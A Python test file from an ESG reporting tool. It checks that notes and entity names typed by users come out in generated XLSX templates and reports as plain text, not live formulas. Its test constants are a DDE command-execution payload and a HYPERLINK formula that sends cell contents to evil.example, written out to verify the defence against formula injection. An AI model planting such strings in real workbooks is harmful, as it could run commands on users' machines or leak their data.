"""Issue #14: text people typed never becomes a live formula in a workbook we write.

A data owner's note ``=cmd|' /C calc'!A0`` and an entity named ``=HYPERLINK(…)`` reached the
manager's template as formulas. Every workbook we write (collection templates, the report's
XLSX) keeps such text as text, exactly as typed, so it also imports back unchanged."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update

from esgledger.disclose.render import write_xlsx
from esgledger.disclose.report import AppendixRow, AppendixTable, ReportModel
from esgledger.ledger.models import Entity
from esgledger.workflow.templates import write_template
from esgledger.workflow.values import enter_value
from tests.workflow.conftest import YEAR, Org, issue

NOTE = "=cmd|' /C calc'!A0"
NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(path: Path) -> list[tuple[str, object, str]]:
    wb = load_workbook(path)
    return [(ws.title, c.value, c.data_type) for ws in wb for row in ws.iter_rows() for c in row]


def test_a_template_keeps_typed_formulas_as_text(org: Org, tmp_path: Path) -> None:
    (rid,) = issue(org, ["packaging.plastics"], ["SZ1"])
    with org.db.write() as s:
        s.execute(update(Entity).where(Entity.id == "SZ1").values(name=NAME))
        enter_value(s, org.olga, rid, version=1, value=4, unit="t", note=NOTE)
    with org.db.read() as s:
        write_template(s, tmp_path / "t.xlsx", year=YEAR, owner="olga")
    cells = _cells(tmp_path / "t.xlsx")
    assert ("kpis", NOTE, "s") in cells and ("kpis", NAME, "s") in cells
    assert not [c for c in cells if c[2] == "f"], "no formula anywhere"


def test_the_report_workbook_keeps_typed_formulas_as_text(tmp_path: Path) -> None:
    row = AppendixRow("packaging.plastics", NAME, "t", ["4"], [4.0], ["1"], "kpi-x")
    model = ReportModel(
        company="Example", year=YEAR, years=[str(YEAR)], generated="", series={},
        appendix=[AppendixTable("environment", "Environment", [row])], footnotes=[NOTE],
        sections=[], charts={}, boundaries=[], methods=[],
    )  # fmt: skip
    cells = _cells(write_xlsx(model, tmp_path / "report.xlsx"))
    assert ("Notes", NOTE, "s") in cells
    assert not [c for c in cells if c[2] == "f"], "no formula anywhere"
